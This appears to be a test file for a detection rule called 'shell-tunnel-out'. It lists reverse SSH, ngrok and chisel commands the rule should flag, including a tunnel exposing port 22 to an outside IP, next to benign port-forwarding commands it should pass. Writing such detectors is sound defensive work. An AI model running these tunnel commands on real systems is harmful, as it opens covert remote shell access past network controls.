# ruleid: shell-tunnel-out
ssh -N -R 2222:localhost:22 eve@203.0.113.9
# ruleid: shell-tunnel-out
ngrok tcp 22
# ruleid: shell-tunnel-out
chisel client 203.0.113.9:8080 R:socks
# ok: shell-tunnel-out
ssh -L 5432:db.internal:5432 me@bastion
# ok: shell-tunnel-out
ngrok http 3000
# ok: shell-tunnel-out
ssh -J bastion me@host
# a decoy: ngrok tcp 22
